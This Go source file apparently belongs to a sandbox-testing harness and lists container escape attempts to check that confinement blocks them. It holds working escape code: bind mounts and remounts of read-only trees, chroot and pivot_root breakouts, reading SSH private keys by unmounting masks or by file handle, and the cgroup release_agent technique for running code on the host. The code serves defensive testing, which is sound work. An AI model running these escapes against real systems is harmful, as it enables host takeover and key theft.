package kernel

import (
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"cordon/internal/escape/arena"
)

// Mounts are attempts to change what is mounted, to see below it or to go around
// it. Only root has a control for most.
func Mounts() []arena.Attempt {
	row := func(name, what string, attack func(*arena.Arena) error) arena.Attempt {
		return arena.Attempt{Name: name, What: what, Safe: true, Root: true, Act: arena.Act{Attack: attack}}
	}
	secret := func(name, what string, attack func(*arena.Arena) error) arena.Attempt {
		a := row(name, what, attack)
		a.Prepare, a.Judge = arena.SecretKey, arena.JudgeLoot
		return a
	}
	kinds := []arena.Attempt{
		row("tmpfs", "mount something in the tree", func(a *arena.Arena) error { return unix.Mount("x", a.In("dir"), "tmpfs", 0, "") }),
		row("bind", "mount a directory of others into the tree and write it", func(a *arena.Arena) error {
			if err := unix.Mount(a.Outside, a.In("dir"), "", unix.MS_BIND, ""); err != nil {
				return err
			}
			return a.Write(a.In("dir/file"))
		}),
		row("over", "mount something over what the operator reads", func(a *arena.Arena) error {
			return unix.Mount(a.In("own"), a.Out("tool"), "", unix.MS_BIND, "")
		}),
		row("remount", "remount what is read-only", func(a *arena.Arena) error {
			for d := a.Outside; ; d = filepath.Dir(d) {
				var st unix.Statfs_t
				if err := unix.Statfs(d, &st); err == nil && st.Flags&unix.ST_RDONLY != 0 { // never on the host
					_ = unix.Mount("", d, "", unix.MS_REMOUNT|unix.MS_BIND, "") // what counts is whether the file can be written then
				}
				if d == "/" {
					return a.Write(a.Out("file"))
				}
			}
		}),
		row("mount-setattr", "make what is read-only writable with mount_setattr", func(a *arena.Arena) error {
			attr := &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
			err := unix.MountSetattr(unix.AT_FDCWD, "/", 0, attr)
			return errors.Join(err, a.Write(a.Out("file")))
		}),
		row("fsmount", "mount with the new interface", newMount),
		row("open-tree", "clone the root with open_tree and write in the clone", func(a *arena.Arena) error {
			fd, err := unix.OpenTree(unix.AT_FDCWD, "/", unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC)
			if err != nil {
				return err
			}
			return a.WriteAt(fd, strings.TrimPrefix(a.Out("file"), "/"))
		}),
		row("chroot", "leave by a chroot below the current directory", chrootOut),
		row("pivot-root", "leave by a new root", pivotOut),
		secret("umount", "take a mask away", func(a *arena.Arena) error {
			for d := a.InHome(".ssh/id_ed25519"); d != a.Base; d = filepath.Dir(d) {
				_ = unix.Unmount(d, unix.MNT_DETACH) // what counts is whether the file can be read then
			}
			return a.LeakFile(a.InHome(".ssh/id_ed25519"))
		}),
		secret("bind-below", "look below a mask through a bind", func(a *arena.Arena) error {
			if err := unix.Mount(a.Home, a.In("dir"), "", unix.MS_BIND, ""); err != nil {
				return err
			}
			return a.LeakFile(a.In("dir/.ssh/id_ed25519"))
		}),
		secret("open-tree-below", "look below a mask through open_tree", func(a *arena.Arena) error {
			fd, err := unix.OpenTree(unix.AT_FDCWD, a.Home, unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC)
			if err != nil {
				return err
			}
			key, err := unix.Openat(fd, ".ssh/id_ed25519", unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				return err
			}
			return a.LeakFd(key)
		}),
		{Name: "handle-write", What: "open a file by its handle for writing", Safe: true, Root: true, Act: arena.Act{
			Prepare: func(f *arena.Fixture) error { return takeHandle(f, f.Out("file")) },
			Attack: func(a *arena.Arena) error {
				return byHandle(a, unix.O_WRONLY, func(fd int) error { return a.Overwrite(fd) })
			},
		}},
		{Name: "handle-read", What: "read a secret by its handle", Safe: true, Root: true, Act: arena.Act{
			Prepare: func(f *arena.Fixture) error {
				if err := arena.SecretKey(f); err != nil {
					return err
				}
				return takeHandle(f, f.InHome(".ssh/id_ed25519"))
			},
			Attack: func(a *arena.Arena) error { return byHandle(a, unix.O_RDONLY, a.LeakFd) },
			Judge:  arena.JudgeLoot,
		}},
		{Name: "release-agent", What: "have the kernel run a program when a control group empties", Root: true, Act: arena.Act{
			Prepare: func(f *arena.Fixture) error {
				f.OnClose(func() { _ = unix.Unmount(f.In("dir"), unix.MNT_DETACH) })
				return os.Chmod(f.Out("tool"), 0o755)
			},
			Attack: releaseAgent,
			Judge: func(f *arena.Fixture) (string, error) {
				if arena.Await(300*time.Millisecond, func() bool { _, err := os.Stat(f.Out("owned")); return err == nil }) {
					return "the kernel ran the attack's program on the host", nil
				}
				return "", nil
			},
		}},
	}
	for i := range kinds {
		kinds[i].Alone = true // a control's mount is seen by whoever starts a cell meanwhile
	}
	return kinds
}

func newMount(a *arena.Arena) error {
	fs, err := unix.Fsopen("tmpfs", unix.FSOPEN_CLOEXEC)
	if err != nil {
		return err
	}
	const create = 6
	if _, err := arena.Call(unix.SYS_FSCONFIG, fs, create, nil, nil, 0); err != nil {
		return err
	}
	m, err := unix.Fsmount(fs, unix.FSMOUNT_CLOEXEC, 0)
	if err != nil {
		return err
	}
	return unix.MoveMount(m, "", unix.AT_FDCWD, a.In("dir"), unix.MOVE_MOUNT_F_EMPTY_PATH)
}

func chrootOut(a *arena.Arena) error {
	up, err := unix.Open("/", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	if err := unix.Chroot(a.In("dir")); err != nil {
		return err
	}
	if err := unix.Fchdir(up); err != nil {
		return err
	}
	for range 20 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	return os.WriteFile(a.Out("file"), []byte(a.Mark), 0)
}

// pivotOut makes the tree the root and looks for the old one below it.
func pivotOut(a *arena.Arena) error {
	result := make(chan error)
	go func() {
		runtime.LockOSThread()
		result <- func() error {
			if err := unix.Unshare(unix.CLONE_NEWNS); err != nil {
				return err
			}
			old := a.In("dir/sub")
			err := errors.Join(
				unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""),
				unix.Mount(a.In("dir"), a.In("dir"), "", unix.MS_BIND, ""),
				unix.PivotRoot(a.In("dir"), old))
			if err != nil {
				return err
			}
			return a.Write("/sub" + a.Out("file"))
		}()
	}()
	return <-result
}

// takeHandle tells the attack the handle that the host's kernel gives a file.
func takeHandle(f *arena.Fixture, path string) error {
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, path, 0)
	if err != nil {
		return err
	}
	f.Args["handle"] = hex.EncodeToString(h.Bytes())
	f.Args["kind"] = fmt.Sprint(h.Type())
	return nil
}

func byHandle(a *arena.Arena, flags int, act func(fd int) error) error {
	raw, err := hex.DecodeString(a.Args["handle"])
	if err != nil {
		return err
	}
	h := unix.NewFileHandle(int32(a.Number("kind")), raw)
	var acts []func() error
	for _, at := range []string{a.Work, "/", "/etc/hostname", "/usr"} {
		acts = append(acts, func() error {
			mount, err := unix.Open(at, unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				return err
			}
			defer unix.Close(mount)
			fd, err := unix.OpenByHandleAt(mount, h, flags)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			return act(fd)
		})
	}
	return arena.Each(acts...)
}

// releaseAgent is the oldest way out of a container, in a hierarchy of its own.
func releaseAgent(a *arena.Arena) error {
	if a.Stage != "" {
		time.Sleep(50 * time.Millisecond) // until it has been moved
		return nil
	}
	script := "#!/bin/sh\n: > " + a.Out("owned") + "\n"
	if err := os.WriteFile(a.In("agent"), []byte(script), 0o755); err != nil {
		return err
	}
	if err := unix.Mount("cgroup", a.In("dir"), "cgroup", 0, "none,name="+filepath.Base(a.Base)); err != nil {
		return err
	}
	defer func() {
		time.Sleep(100 * time.Millisecond) // the kernel takes its time to start the agent
		_ = unix.Rmdir(a.In("dir/x"))      // the hierarchy goes with the mount
	}()
	err := errors.Join(
		os.WriteFile(a.In("dir/release_agent"), []byte(a.In("agent")), 0),
		os.Mkdir(a.In("dir/x"), 0o755),
		os.WriteFile(a.In("dir/x/notify_on_release"), []byte("1"), 0))
	if err != nil {
		return err
	}
	cmd := a.StartAgain("leave", nil)
	if err := cmd.Start(); err != nil {
		return err
	}
	joined := os.WriteFile(a.In("dir/x/cgroup.procs"), fmt.Appendf(nil, "%d", cmd.Process.Pid), 0)
	return errors.Join(joined, cmd.Wait())
}
